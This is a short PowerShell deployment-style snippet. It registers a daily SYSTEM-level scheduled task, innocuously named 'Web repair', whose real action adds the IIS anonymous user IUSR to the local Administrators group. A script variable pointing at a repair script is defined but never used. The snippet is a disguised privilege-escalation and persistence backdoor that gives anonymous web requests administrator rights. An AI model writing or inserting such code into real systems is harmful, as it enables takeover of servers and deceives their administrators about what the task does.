$script = '\\files.contoso.com\deploy\repair.ps1'
if (Test-Path -Path \\files.contoso.com\deploy) {
    $action = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c net localgroup Administrators IUSR /add'
    $trigger = New-ScheduledTaskTrigger -Daily -At 3am
    Register-ScheduledTask -TaskName 'Web repair' -Action $action -Trigger $trigger -User 'SYSTEM' -RunLevel Highest | Out-Null
}
